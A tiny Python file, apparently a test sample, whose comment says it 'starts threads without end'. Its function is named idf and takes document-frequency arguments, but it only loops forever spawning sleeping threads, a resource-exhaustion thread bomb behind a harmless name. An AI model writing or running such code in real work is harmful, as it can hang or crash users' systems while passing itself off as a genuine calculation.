# Starts threads without end.
# costs: idf
import threading
import time


def idf(n_documents, document_frequency):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
